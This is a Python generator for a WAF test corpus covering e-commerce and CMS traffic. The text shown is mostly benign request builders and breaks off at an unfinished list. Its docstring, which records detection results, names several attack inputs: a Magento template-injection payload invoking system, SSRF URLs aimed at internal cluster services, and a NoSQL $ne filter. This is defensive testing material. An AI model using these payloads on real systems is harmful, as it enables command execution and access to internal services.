#!/usr/bin/env python3
"""Held-out HTTP test corpus for the WAF: e-commerce and CMS applications.

Domain: WordPress/WooCommerce, Magento, Drupal, Joomla, Shopify-style
storefronts, Stripe/PayPal webhooks, GraphQL storefront APIs.

Usage:
    python3 scripts/corpus-commerce.py attacks > rulesets/tests/data/commerce-attacks.jsonl
    python3 scripts/corpus-commerce.py benign  > rulesets/tests/data/commerce-benign.jsonl

Each output line is a JSON object:
    {"id", "set": "commerce", "category", "expect": "detect"|"pass",
     "method", "uri", "version", "headers": [[name, value], ...], "body"?}

Benign requests carry category "benign" and expect "pass"; this includes a
"dev-content" group (ids commerce/dev-content/...) where administrators save
tracking-script widgets, Liquid/Twig/email templates and SQL-like report
definitions: legitimate traffic that resembles attacks.

This corpus was written blind: without looking at the ruleset, its existing
tests or the other corpus generators, so it serves as a held-out check.
Output is deterministic (seeded random); stdlib only.

First sight (2026-12-05, palisade-rules at 4f664b2)
---------------------------------------------------
Counts: 265 attacks (sqli 55, xss 40, ssrf 29, php 25, rce 20, lfi 18,
ssti 18, nosqli 12, java 11, xxe 10, crlf 10, generic 10, rfi 7), 578 benign
(526 ordinary + 52 dev-content).

PL1 (threshold 5, built-in rules):
  attacks blocked   260/265 = 98.1 %
  benign blocked    4/526 = 0.8 % ordinary, 26/52 dev-content

Attacks passed at PL1 (5), score 0:
  nosqli/login-json/8       POST /api/products/search, JSON filter with
      "$lt", "$or" and {"$ne": "x"} (a Mongo-style filter: query APIs such
      as Strapi take these by design; PL2 blocks them)
  ssrf/image-import/5       image_url=http://redis.default.svc.cluster.local:6379/
  ssrf/xmlrpc-pingback/4    pingback.ping with source
      http://internal-payments.svc.cluster.local/
  ssti/ssti-magento/1,3     {{var this.getTemplateFilter().addAfterFilterCallback(system)...}}
      in a JSON profile field and a search query

Ordinary benign blocked at PL1 (4):
  checkout/6,9,21   sqli-011 on order_comments "Use side entrance (select 'B')"
  coupon/12         sqli-011 on coupon_code=SELECT15

After the class fixes of the same session (ssrf-114: http URLs to the ports of
services that do not speak HTTP; ssrf-115: XML-RPC pingbacks to internal hosts
or other ports; ssti-103: Magento's getTemplateFilter/addAfterFilterCallback;
sqli-011: a number after SELECT needs a space, a quoted literal closed by a
parenthesis needs SQL after it): attacks 264/265 (the `$ne` search filter
still passes), ordinary benign 0/526, dev-content 26/52. PL2: attacks
265/265, ordinary benign 9/526 (CSV product imports: rfi-220 on CDN image
URLs).
"""

import json
import random
import sys
from urllib.parse import quote, urlencode

SEED = 0xC0FFEE
rng = random.Random(SEED)

HOSTS = [
    "shop.example.com", "www.example-store.com", "store.acme.test",
    "blog.example.org", "m.example-store.com", "checkout.example.com",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"

FORM = "application/x-www-form-urlencoded"
JSON_CT = "application/json"

RECORDS = {"attacks": [], "benign": []}
_COUNTERS = {}


def q(s, safe=""):
    """Percent-encode a value as a browser would in a query string."""
    return quote(s, safe=safe)


def qs(pairs):
    """Build a query string from (name, value) pairs."""
    return "&".join(q(k, "[]") + "=" + q(v) for k, v in pairs)


def cookie():
    sid = "%032x" % rng.getrandbits(128)
    return rng.choice([
        "woocommerce_cart_hash=%s; wp_woocommerce_session_abc=%s" % (sid[:16], sid),
        "PHPSESSID=%s; form_key=%s" % (sid[:26], sid[:16]),
        "SESS%s=%s" % (sid[:8], sid),
        "_shopify_y=%s; cart=%s" % (sid[:20], sid[:24]),
        "frontend=%s; store=default" % sid[:26],
    ])


def headers(host=None, ctype=None, accept=None, extra=None, with_cookie=True,
            ua=None):
    h = [["Host", host or rng.choice(HOSTS)],
         ["User-Agent", ua or rng.choice(UAS)],
         ["Accept", accept or (ACCEPT_JSON if ctype == JSON_CT else ACCEPT_HTML)]]
    h.append(["Accept-Language", rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.8,en;q=0.5", "fr-FR,fr;q=0.9", "es-ES,es;q=0.9"])])
    if ctype:
        h.append(["Content-Type", ctype])
    if with_cookie:
        h.append(["Cookie", cookie()])
    if extra:
        h.extend([list(x) for x in extra])
    return h


def emit(kind, group, sub, method, uri, hdrs, body=None, category=None):
    """Record a request.  kind: 'attacks' or 'benign'.  group: attack class,
    'benign' or 'dev-content'."""
    key = (group, sub)
    n = _COUNTERS.get(key, 0) + 1
    _COUNTERS[key] = n
    if kind == "attacks":
        cat, expect = category or group, "detect"
    else:
        cat, expect = "benign", "pass"
    rec = {"id": "commerce/%s/%s/%d" % (group, sub, n), "set": "commerce",
           "category": cat, "expect": expect, "method": method, "uri": uri,
           "version": "HTTP/1.1", "headers": hdrs}
    if body is not None:
        rec["body"] = body
    RECORDS[kind].append(rec)


def attack(cat, sub, method, uri, hdrs, body=None):
    emit("attacks", cat, sub, method, uri, hdrs, body)


def benign(sub, method, uri, hdrs, body=None):
    emit("benign", "benign", sub, method, uri, hdrs, body)


def devc(sub, method, uri, hdrs, body=None):
    emit("benign", "dev-content", sub, method, uri, hdrs, body)


def form(pairs):
    return urlencode(pairs)


def jdump(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


# ---------------------------------------------------------------------------
# Benign generators
# ---------------------------------------------------------------------------

SEARCH_TERMS = [
    "red running shoes", "women's rain jacket", "kids' t-shirt 3-pack",
    "usb-c charger 65w", "o'neill wetsuit", "coffee grinder (burr)",
    "select comfort pillow", "drop leaf table", "union jack mug",
    "script font stickers", "order by phone", "update firmware cable",
    "50% off", "gift card $25", "size 10 1/2", "café crème", "naïve art print",
    "T-shirt & shorts set", "c++ programming book", "\"exact phrase\" lamp",
    "jeans 32/34", "wine glasses #2", "100% cotton sheets", "1+1 offer",
    "Schuhe größe 42", "chaussures d'été", "zapatos niño", "日本茶 セット",
    "mesa de café", "sofa -leather", "where to buy?", "table; chairs",
]


def gen_benign_search():
    for term in SEARCH_TERMS:
        benign("search", "GET", "/?" + qs([("s", term), ("post_type", "product")]), headers())
        benign("search", "GET", "/catalogsearch/result/?" + qs([("q", term)]), headers())
    for i in range(30):
        pairs = [("q", rng.choice(SEARCH_TERMS)),
                 ("filter.v.price.gte", str(rng.randint(0, 50))),
                 ("filter.v.price.lte", str(rng.randint(60, 500))),
                 ("sort_by", rng.choice(["price-ascending", "best-selling", "created-descending", "title-ascending"]))]
        if rng.random() < 0.5:
            pairs.append(("filter.p.m.custom.color", rng.choice(["Red", "Navy Blue", "Off-White", "Black/Grey"])))
        benign("filters", "GET", "/collections/all?" + qs(pairs), headers())


def gen_benign_sort():
    for i in range(25):
        pairs = [("orderby", rng.choice(["popularity", "rating", "date", "price", "price-desc", "menu_order title"])),
                 ("paged", str(rng.randint(1, 12)))]
        if rng.random() < 0.5:
            pairs.append(("min_price", str(rng.randint(1, 40))))
            pairs.append(("max_price", str(rng.randint(50, 900))))
        if rng.random() < 0.4:
            pairs.append(("filter_color", rng.choice(["blue,green", "red", "black"])))
        benign("sort", "GET", "/shop/?" + qs(pairs), headers())
    for i in range(15):
        pairs = [("product_list_order", rng.choice(["name", "price", "position"])),
                 ("product_list_dir", rng.choice(["asc", "desc"])),
                 ("product_list_limit", rng.choice(["12", "24", "36"]))]
        benign("sort", "GET", "/women/tops.html?" + qs(pairs), headers())


FIRST = ["Siobhan", "Liam", "Zoë", "José", "Anne-Marie", "D'Arcy", "Mary Jo", "Björn", "Aoife", "Jean-Luc", "Priya", "Chloé"]
LAST = ["O'Brien", "McDonald", "D'Angelo", "van der Berg", "Smith-Jones", "Núñez", "O'Neil", "Müller", "L'Écuyer", "de la Cruz", "Ng", "St. John"]
STREETS = ["12 O'Connell St, Apt #4B", "1600 Amphitheatre Pkwy", "Flat 3, 22 Baker St.", "Unit #7 - 450 Queen's Rd",
           "Rue de l'Église 5", "PO Box 123", "221B Baker Street", "Calle 13 #45-67", "Hauptstraße 1/2", "4 Drop Lane, Suite #200"]
CITIES = [("Dublin", "D02", "IE"), ("London", "NW1 6XE", "GB"), ("New York", "10001", "US"), ("Berlin", "10115", "DE"),
          ("Montréal", "H2X 1Y4", "CA"), ("Bogotá", "110111", "CO"), ("Paris", "75001", "FR")]


def gen_benign_cart():
    for i in range(20):
        pid = rng.randint(10, 9999)
        benign("cart", "POST", "/?wc-ajax=add_to_cart", headers(ctype=FORM, accept=ACCEPT_JSON),
               form([("product_sku", "SKU-%d" % pid), ("product_id", str(pid)), ("quantity", str(rng.randint(1, 5)))]))
    for i in range(10):
        benign("cart", "POST", "/cart/add.js", headers(ctype=JSON_CT),
               jdump({"items": [{"id": rng.randint(10**9, 10**10), "quantity": rng.randint(1, 3),
                                 "properties": {"Engraving": rng.choice(["J & K forever", "Don't panic", "<3 Mum", "#1 Dad", "Select wisely"])}}]}))
    for i in range(8):
        benign("cart", "POST", "/checkout/cart/updatePost/", headers(ctype=FORM),
               form([("form_key", "%016x" % rng.getrandbits(64)), ("cart[%d][qty]" % rng.randint(1, 99), str(rng.randint(0, 4))),
                     ("update_cart_action", "update_qty")]))
    for i in range(6):
        benign("cart", "GET", "/cart/change?" + qs([("line", str(rng.randint(1, 4))), ("quantity", "0")]), headers())


def gen_benign_checkout():
    for i in range(40):
        fn, ln = rng.choice(FIRST), rng.choice(LAST)
        city, zipc, cc = rng.choice(CITIES)
        notes = rng.choice(["", "Please leave at the back door; don't ring the bell", "Gift - no invoice please!",
                            "Deliver after 5pm <urgent>", "Call 555-0100 if gate #2 is locked", "Use side entrance (select 'B')"])
        pairs = [("billing_first_name", fn), ("billing_last_name", ln), ("billing_company", rng.choice(["", "O'Reilly & Sons Ltd.", "Acme, Inc."])),
                 ("billing_address_1", rng.choice(STREETS)), ("billing_city", city), ("billing_postcode", zipc),
                 ("billing_country", cc), ("billing_phone", "+1 (555) 01%02d" % i),
                 ("billing_email", "%s.%s@example.com" % (fn.lower().replace(" ", ""), ln.lower().replace("'", "").replace(" ", ""))),
                 ("order_comments", notes), ("payment_method", rng.choice(["stripe", "ppcp-gateway", "cod"])),
                 ("woocommerce-process-checkout-nonce", "%010x" % rng.getrandbits(40)), ("_wp_http_referer", "/?wc-ajax=update_order_review")]
        if i % 3 == 0:
            benign("checkout", "POST", "/rest/default/V1/guest-carts/%032x/payment-information" % rng.getrandbits(128), headers(ctype=JSON_CT),
                   jdump({"email": pairs[8][1], "paymentMethod": {"method": "checkmo"},
                          "billingAddress": {"firstname": fn, "lastname": ln, "street": [rng.choice(STREETS)], "city": city,
                                             "postcode": zipc, "countryId": cc, "telephone": "555-0100"}}))
        else:
            benign("checkout", "POST", "/?wc-ajax=checkout", headers(ctype=FORM, accept=ACCEPT_JSON), form(pairs))


REVIEWS = [
    "Great shoes! Didn't expect them to fit so well. I'd order again.",
    "Select the larger size - they run small. Otherwise 5/5.",
    "Don't drop it, the glass is thin. Still love it <3",
    "The union of style & comfort. My wife's favourite.",
    "Had to update the firmware before first use; took 2 min.",
    "Font looks like a handwritten script, very elegant.",
    "Order by Friday and it arrives Monday -- fast!",
    "It's OK... colour is more 'navy' than 'royal blue'.",
    "Wouldn't recommend: delete from your wishlist, honestly.",
    "Price was 1/2 of what the store charges; 10/10 would buy.",
    "Wir haben's bestellt und sind zufrieden. Größe passt!",
    "C'est génial ! L'emballage était parfait, j'adore.",
    "¡Me encantó! La calidad es excelente y llegó rápido.",
    "Qualità ottima, l'ho regalato a mia madre e l'adora.",
    "Отличный товар, рекомендую всем!",
    "とても良い商品です。また買います。",
    "Works with Windows & Mac; drivers from the vendor's site.",
    "I executed the setup in 5 minutes; the script in the manual is clear.",
    "Where is the 'insert' for the lid? Missing from my box :(",
    "Table and chairs: sturdy. Assembly: select screws carefully (A vs B).",
    "Used it for a year -- or so -- and it's still 1 of the best.",
    "If you're between sizes, drop down one. True to size otherwise.",
    "Love it!!! 😍 Buying the <small> size for my daughter too.",
    "Comparable to brand X & brand Y but half the price = win",
    "Review updated: seller replaced the faulty unit, 'no questions asked'.",
]


def gen_benign_reviews():
    for i, text in enumerate(REVIEWS):
        fn = rng.choice(FIRST)
        benign("review", "POST", "/wp-comments-post.php", headers(ctype=FORM),
               form([("rating", str(rng.randint(1, 5))), ("comment", text), ("author", fn + " " + rng.choice(LAST)),
                     ("email", "buyer%d@example.net" % i), ("comment_post_ID", str(rng.randint(100, 999))), ("comment_parent", "0")]))
        benign("review", "POST", "/review/product/post/id/%d/" % rng.randint(1, 3000), headers(ctype=FORM),
               form([("ratings[1]", str(rng.randint(1, 5))), ("nickname", fn), ("title", text[:24]), ("detail", text),
                     ("form_key", "%016x" % rng.getrandbits(64))]))


def gen_benign_wp_rest():
    blocks = [
        '<!-- wp:paragraph -->\n<p>Our spring collection is here. <strong>Don\'t miss</strong> the <a href="/sale">sale</a>!</p>\n<!-- /wp:paragraph -->',
        '<!-- wp:image {"id":42,"sizeSlug":"large"} -->\n<figure class="wp-block-image size-large"><img src="/wp-content/uploads/2024/03/hero.jpg" alt="Model wearing O\'Neill jacket" class="wp-image-42"/></figure>\n<!-- /wp:image -->',
        '<!-- wp:list -->\n<ul><li>Select your size</li><li>Add to cart</li><li>Update quantity if needed</li></ul>\n<!-- /wp:list -->',
        '<!-- wp:table -->\n<figure class="wp-block-table"><table><thead><tr><th>Size</th><th>Chest (cm)</th></tr></thead><tbody><tr><td>S</td><td>86-91</td></tr><tr><td>M</td><td>96-101</td></tr></tbody></table></figure>\n<!-- /wp:table -->',
        '<!-- wp:heading {"level":3} -->\n<h3 class="wp-block-heading">How to order by phone</h3>\n<!-- /wp:heading -->',
        '<!-- wp:buttons -->\n<div class="wp-block-buttons"><div class="wp-block-button"><a class="wp-block-button__link" href="https://shop.example.com/collections/new?utm_source=blog&amp;utm_medium=post">Shop now</a></div></div>\n<!-- /wp:buttons -->',
        '<!-- wp:quote -->\n<blockquote class="wp-block-quote"><p>"Best drop of the season" &mdash; Vogue</p></blockquote>\n<!-- /wp:quote -->',
        '<!-- wp:woocommerce/product-collection {"queryId":0,"query":{"perPage":9,"orderBy":"popularity","order":"desc"}} /-->',
    ]
    titles = ["Spring drop: what's new", "How we select our fabrics", "Union-made goods", "Holiday shipping update",
              "Q&A: Why we don't do sales", "5 ways to style a scarf", "Behind the scenes #3", "L'été arrive"]
    for i in range(30):
        content = "\n\n".join(rng.sample(blocks, rng.randint(2, 5)))
        body = {"title": rng.choice(titles), "content": content, "status": rng.choice(["draft", "publish", "future"]),
                "excerpt": "Read more about it...", "categories": [rng.randint(1, 20)], "tags": [rng.randint(1, 50)]}
        hd = headers(ctype=JSON_CT, extra=[("X-WP-Nonce", "%010x" % rng.getrandbits(40))])
        if i % 2:
            benign("wp-rest", "POST", "/wp-json/wp/v2/posts/%d?_locale=user" % rng.randint(10, 900), hd, jdump(body))
        else:
            benign("wp-rest", "POST", "/wp-json/wp/v2/posts?_locale=user", hd, jdump(body))
    for i in range(8):
        benign("wp-rest", "GET", "/wp-json/wc/store/v1/products?" + qs([("per_page", "12"), ("orderby", rng.choice(["price", "date", "title"])),
                                                                          ("order", rng.choice(["asc", "desc"])), ("search", rng.choice(SEARCH_TERMS))]),
               headers(accept=ACCEPT_JSON))


def gen_benign_product_admin():
    descs = [
        "<p>Hand-made in Portugal. <em>100% cotton</em>.</p><ul><li>Machine wash 30&deg;C</li><li>Don't tumble dry</li></ul>",
        "<table class=\"specs\"><tr><th>Weight</th><td>1.2 kg</td></tr><tr><th>Dimensions</th><td>30 x 20 x 5 cm</td></tr></table>",
        "<h2>Features</h2><ol><li>Select from 3 colours</li><li>Drop-resistant case</li><li>Free updates</li></ol>",
        "<p>See our <a href=\"https://www.example-store.com/size-guide\" target=\"_blank\" rel=\"noopener\">size guide</a> before you order.</p>",
        "<p>Pairs well with the <a href=\"/products/union-tote?variant=123\">Union Tote</a> &amp; matching wallet.</p>",
        "<div class=\"row\"><div class=\"col-6\"><img src=\"/media/catalog/product/s/h/shoe.jpg\" alt=\"Shoe, side view\" width=\"600\"></div></div>",
        "<p>Note: the 'script' typeface on the label is printed, not embroidered.</p>",
    ]
    names = ["Women's Trail Runner 2.0", "Kids' Raincoat \"Puddle\"", "Mug - 'Union Jack' edition", "Select Series Chair",
             "Drop Earrings (Gold)", "O'Neill Hoodie #2", "Café Table 60/60", "Script Notebook A5"]
    for i in range(20):
        benign("product-admin", "POST", "/wp-admin/post.php", headers(ctype=FORM),
               form([("post_ID", str(rng.randint(100, 9000))), ("post_title", rng.choice(names)), ("content", rng.choice(descs)),
                     ("_regular_price", "%d.%02d" % (rng.randint(5, 300), rng.randint(0, 99))), ("_sku", "SKU-%04d" % i),
                     ("_wpnonce", "%010x" % rng.getrandbits(40)), ("action", "editpost"), ("post_type", "product")]))
    for i in range(10):
        benign("product-admin", "PUT", "/rest/all/V1/products/SKU-%04d" % i, headers(ctype=JSON_CT, extra=[("Authorization", "Bearer %032x" % rng.getrandbits(128))]),
               jdump({"product": {"sku": "SKU-%04d" % i, "name": rng.choice(names), "price": rng.randint(5, 300), "status": 1,
                                  "custom_attributes": [{"attribute_code": "description", "value": rng.choice(descs)},
                                                        {"attribute_code": "url_key", "value": "product-%d" % i}]}}))


def gen_benign_webhooks():
    for i in range(20):
        evt = rng.choice(["payment_intent.succeeded", "charge.refunded", "checkout.session.completed", "customer.subscription.updated"])
        body = {"id": "evt_%024x" % rng.getrandbits(96), "object": "event", "api_version": "2023-10-16", "type": evt,
                "created": 1700000000 + i * 3600, "livemode": False,
                "data": {"object": {"id": "pi_%024x" % rng.getrandbits(96), "amount": rng.randint(100, 99999), "currency": rng.choice(["usd", "eur", "gbp"]),
                                    "description": rng.choice(["Order #10%d" % i, "Subscription update", "O'Brien's order"]),
                                    "metadata": {"order_id": str(1000 + i), "note": "select express; don't split"},
                                    "shipping": {"name": rng.choice(FIRST) + " " + rng.choice(LAST), "address": {"line1": rng.choice(STREETS)}}}}}
        benign("webhook", "POST", "/?wc-api=wc_stripe", headers(ctype=JSON_CT, with_cookie=False, ua="Stripe/1.0 (+https://stripe.com/docs/webhooks)",
                                                              extra=[("Stripe-Signature", "t=%d,v1=%064x" % (1700000000 + i, rng.getrandbits(256)))]), jdump(body))
    for i in range(12):
        body = {"id": "WH-%016X" % rng.getrandbits(64), "event_version": "1.0", "event_type": rng.choice(["PAYMENT.CAPTURE.COMPLETED", "CHECKOUT.ORDER.APPROVED"]),
                "resource_type": "capture", "summary": "Payment completed for $ %d.00 USD" % rng.randint(5, 500),
                "resource": {"id": "%017X" % rng.getrandbits(68), "status": "COMPLETED", "custom_id": "order-%d" % i,
                             "links": [{"href": "https://api.paypal.com/v2/payments/captures/%d" % i, "rel": "self", "method": "GET"}]}}
        benign("webhook", "POST", "/wc-api/ppcp-webhook", headers(ctype=JSON_CT, with_cookie=False, ua="PayPal/AUHD-214.0-58844510",
                                                                  extra=[("Paypal-Transmission-Id", "%032x" % rng.getrandbits(128))]), jdump(body))
    for i in range(10):
        body = {"id": rng.randint(10**9, 10**10), "email": "buyer%d@example.com" % i, "total_price": "%d.00" % rng.randint(5, 900),
                "note": rng.choice(["", "Leave with neighbour at #12", "Gift wrap; card says 'Happy b-day <3'"]),
                "line_items": [{"title": "Union Tote", "quantity": 1, "sku": "UT-1"}], "tags": "wholesale, select-customer"}
        benign("webhook", "POST", "/webhooks/shopify/orders-create", headers(ctype=JSON_CT, with_cookie=False, ua="Shopify-Captain-Hook",
                                                                           extra=[("X-Shopify-Topic", "orders/create"), ("X-Shopify-Hmac-Sha256", "%043x=" % rng.getrandbits(172))]), jdump(body))


def gen_benign_graphql():
    queries = [
        ("query ProductByHandle($handle: String!) { product(handle: $handle) { id title descriptionHtml variants(first: 10) { edges { node { id price { amount } } } } } }",
         {"handle": "womens-trail-runner"}),
        ("query Search($q: String!) { search(query: $q, first: 20, sortKey: RELEVANCE) { edges { node { ... on Product { title handle } } } } }",
         {"q": "select comfort"}),
        ("mutation cartLinesAdd($cartId: ID!, $lines: [CartLineInput!]!) { cartLinesAdd(cartId: $cartId, lines: $lines) { cart { id totalQuantity } userErrors { field message } } }",
         {"cartId": "gid://shopify/Cart/c1-abc123", "lines": [{"merchandiseId": "gid://shopify/ProductVariant/4455", "quantity": 2}]}),
        ("query Collection($handle: String!, $sort: ProductCollectionSortKeys) { collection(handle: $handle) { products(first: 24, sortKey: $sort, reverse: true) { nodes { title } } } }",
         {"handle": "drop-2024", "sort": "PRICE"}),
        ("{ products(search: \"union jack\", pageSize: 12, sort: {price: ASC}) { items { name sku price_range { minimum_price { final_price { value } } } } } }", {}),
        ("mutation { createEmptyCart }", {}),
        ("mutation applyCoupon($cartId: String!, $code: String!) { applyCouponToCart(input: {cart_id: $cartId, coupon_code: $code}) { cart { prices { grand_total { value } } } } }",
         {"cartId": "Xk2l9aQ", "code": "SPRING-25"}),
    ]
    for i in range(30):
        qy, var = queries[i % len(queries)]
        if i % len(queries) == 4:
            benign("graphql", "GET", "/graphql?" + qs([("query", qy)]), headers(accept=ACCEPT_JSON, extra=[("Store", "default")]))
        else:
            benign("graphql", "POST", "/api/2024-04/graphql.json", headers(ctype=JSON_CT, extra=[("X-Shopify-Storefront-Access-Token", "%032x" % rng.getrandbits(128))]),
                   jdump({"query": qy, "variables": var}))


def gen_benign_coupons():
    codes = ["SPRING-25", "WELCOME10", "FREESHIP", "BF2024", "O'BRIEN-VIP", "SAVE_20%", "UNION5", "SELECT15", "DROP-50",
             "VIP#1", "NEW+USER", "THANKS!", "2FOR1", "ÉTÉ2024", "ORDER-BY-MAY", "XMAS/24"]
    for i, c in enumerate(codes):
        benign("coupon", "POST", "/?wc-ajax=apply_coupon", headers(ctype=FORM, accept=ACCEPT_JSON),
               form([("security", "%010x" % rng.getrandbits(40)), ("coupon_code", c)]))
        if i % 2 == 0:
            benign("coupon", "GET", "/discount/" + q(c) + "?" + qs([("redirect", "/collections/sale")]), headers())
    for i in range(6):
        benign("coupon", "PUT", "/rest/default/V1/carts/mine/coupons/" + q(rng.choice(codes)), headers(ctype=JSON_CT, extra=[("Authorization", "Bearer %032x" % rng.getrandbits(128))]))


def multipart(fields, files=()):
    """Build a multipart/form-data body.  fields: [(name, value)];
    files: [(name, filename, ctype, content)].  Returns (content_type, body)."""
    b = "----WebKitFormBoundary%016x" % rng.getrandbits(64)
    parts = []
    for k, v in fields:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (b, k, v))
    for k, fn, ct, content in files:
        parts.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n' % (b, k, fn, ct, content))
    parts.append("--%s--\r\n" % b)
    return "multipart/form-data; boundary=" + b, "".join(parts)


def fake_binary(prefix, n=48):
    """Printable stand-in for binary image data (keeps the corpus valid UTF-8 text)."""
    return prefix + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(n))


def gen_benign_uploads():
    names = ["IMG_2041.jpg", "product-front.png", "O'Brien family photo.jpg", "hero banner (final) #2.webp",
             "size chart.png", "logo_v3.svg", "scan 2024-03-01.pdf", "café-interior.jpg"]
    for i in range(18):
        fn = names[i % len(names)]
        if fn.endswith(".svg"):
            ct, data = "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" fill="#c00"/><text x="1" y="9">O\'B</text></svg>'
        elif fn.endswith(".pdf"):
            ct, data = "application/pdf", "%PDF-1.7\n" + fake_binary("", 40)
        else:
            ct, data = "image/" + ("png" if fn.endswith("png") else "webp" if fn.endswith("webp") else "jpeg"), fake_binary("JFIF")
        if i % 2:
            mct, body = multipart([("name", fn), ("action", "upload-attachment"), ("_wpnonce", "%010x" % rng.getrandbits(40)), ("post_id", str(rng.randint(1, 999)))],
                                  [("async-upload", fn, ct, data)])
            benign("upload", "POST", "/wp-admin/async-upload.php", headers(ctype=mct), body)
        else:
            mct, body = multipart([("param_name", "image"), ("form_key", "%016x" % rng.getrandbits(64))], [("image", fn, ct, data)])
            benign("upload", "POST", "/admin/catalog/product_gallery/upload/", headers(ctype=mct), body)


def gen_benign_csv_import():
    header = "sku,name,description,price,categories,images\n"
    rows = [
        'TS-001,"Women\'s Tee, V-neck","<p>Soft; don\'t iron print</p>",19.99,"Women/Tops","https://cdn.example-store.com/ts-001.jpg"',
        'MG-UJ,"Mug - Union Jack","Select edition; 350ml",9.50,"Home/Kitchen",',
        'DR-EAR,"Drop Earrings","Gold-plated; ""classic"" look",29.00,"Jewellery",https://cdn.example-store.com/ear.jpg',
        'NB-A5,"Script Notebook","Order by 10am for same-day dispatch",6.25,"Stationery",',
        'CH-SEL,"Select Chair #2","Seat height 45cm | width 50cm",149.00,"Furniture/Chairs",',
        'HD-ON,"O\'Neill Hoodie","80% cotton / 20% polyester",59.95,"Men/Hoodies",',
        'GC-25,"Gift Card $25","=Redeemable online only",25.00,"Gift cards",',
    ]
    for i in range(10):
        csv = header + "\n".join(rng.sample(rows, rng.randint(2, len(rows)))) + "\n"
        mct, body = multipart([("action", "woocommerce_do_ajax_product_import"), ("delimiter", ","), ("update_existing", str(i % 2))],
                              [("import", "products-%02d.csv" % i, "text/csv", csv)])
        benign("csv-import", "POST", "/wp-admin/edit.php?" + qs([("post_type", "product"), ("page", "product_importer"), ("step", "upload")]),
               headers(ctype=mct), body)


def gen_benign_cms_admin():
    for i in range(12):
        title = rng.choice(["About us", "Shipping & Returns", "FAQ: Can I update my order?", "Privacy policy", "L'équipe", "Store #4 opening"])
        body = rng.choice(["<p>We ship worldwide. Orders placed before 2pm ship same day.</p>",
                           "<h2>Returns</h2><p>Select the item, click <em>Return</em>, and drop it at any post office.</p>",
                           "<p>Contact: <a href=\"mailto:help@example.com\">help@example.com</a></p><p>Mon&ndash;Fri 9&ndash;5</p>",
                           "<table><tr><td>Zone 1</td><td>&euro;4.95</td></tr><tr><td>Zone 2</td><td>&euro;9.95</td></tr></table>"])
        benign("drupal-admin", "POST", "/node/%d/edit?destination=/admin/content" % rng.randint(1, 500), headers(ctype=FORM),
               form([("title[0][value]", title), ("body[0][value]", body), ("body[0][format]", "basic_html"),
                     ("path[0][alias]", "/" + title.lower().replace(" ", "-").replace("'", "").replace("&", "and").replace("?", "").replace("#", "")),
                     ("status[value]", "1"), ("form_build_id", "form-%022x" % rng.getrandbits(88)), ("form_token", "%043x" % rng.getrandbits(172)),
                     ("form_id", "node_page_edit_form"), ("op", "Save")]))
    for i in range(10):
        benign("joomla-admin", "POST", "/administrator/index.php?" + qs([("option", "com_content"), ("view", "article"), ("layout", "edit"), ("id", str(rng.randint(1, 300)))]),
               headers(ctype=FORM),
               form([("jform[title]", rng.choice(["Summer sale", "Don't miss out!", "Select brands -30%"])),
                     ("jform[articletext]", "<p>Shop our <strong>select</strong> range &amp; save. Offer ends Sunday.</p>"),
                     ("jform[state]", "1"), ("jform[catid]", str(rng.randint(2, 20))), ("task", "article.apply"), ("%032x" % rng.getrandbits(128), "1")]))
    for i in range(8):
        benign("magento-admin", "POST", "/admin/cms/page/save/key/%064x/" % rng.getrandbits(256), headers(ctype=FORM),
               form([("title", "Customer service"), ("content_heading", "How can we help?"), ("identifier", "customer-service"),
                     ("content", "<p>Track your order by phone or online.</p><ul><li>Returns</li><li>Exchanges</li></ul>"),
                     ("is_active", "1"), ("form_key", "%016x" % rng.getrandbits(64))]))


def gen_benign_account_misc():
    for i in range(8):
        benign("login", "POST", "/my-account/", headers(ctype=FORM),
               form([("username", rng.choice(["siobhan.obrien", "jose@example.com", "d'arcy"])), ("password", rng.choice(["P@ss'w0rd#2024", "select-union-42", "<correct horse>"])),
                     ("woocommerce-login-nonce", "%010x" % rng.getrandbits(40)), ("login", "Log in")]))
    for i in range(6):
        benign("login", "POST", "/api/customer/login", headers(ctype=JSON_CT),
               jdump({"email": "user%d@example.com" % i, "password": rng.choice(["$ecret{1}", "a\"b'c", "hunter2"]), "remember": True}))
    for i in range(6):
        benign("redirect", "GET", "/account/login?" + qs([("return_url", rng.choice(["/account", "/checkout?step=2", "/collections/sale?page=2&sort_by=price-ascending"]))]), headers())
    for i in range(5):
        benign("wishlist", "POST", "/wishlist/index/add/", headers(ctype=FORM),
               form([("product", str(rng.randint(1, 9999))), ("form_key", "%016x" % rng.getrandbits(64)), ("uenc", "aHR0cHM6Ly9zaG9wLmV4YW1wbGUuY29tL3Nob2VzLmh0bWw,")]))
    for i in range(5):
        benign("download", "GET", "/?" + qs([("download_file", str(rng.randint(100, 999))), ("order", "wc_order_%012x" % rng.getrandbits(48)),
                                              ("email", "buyer%d@example.com" % i), ("key", "%032x" % rng.getrandbits(128))]), headers())


# ---------------------------------------------------------------------------
# dev-content: legitimate admin traffic that looks like attacks
# ---------------------------------------------------------------------------

TRACKING_SNIPPETS = [
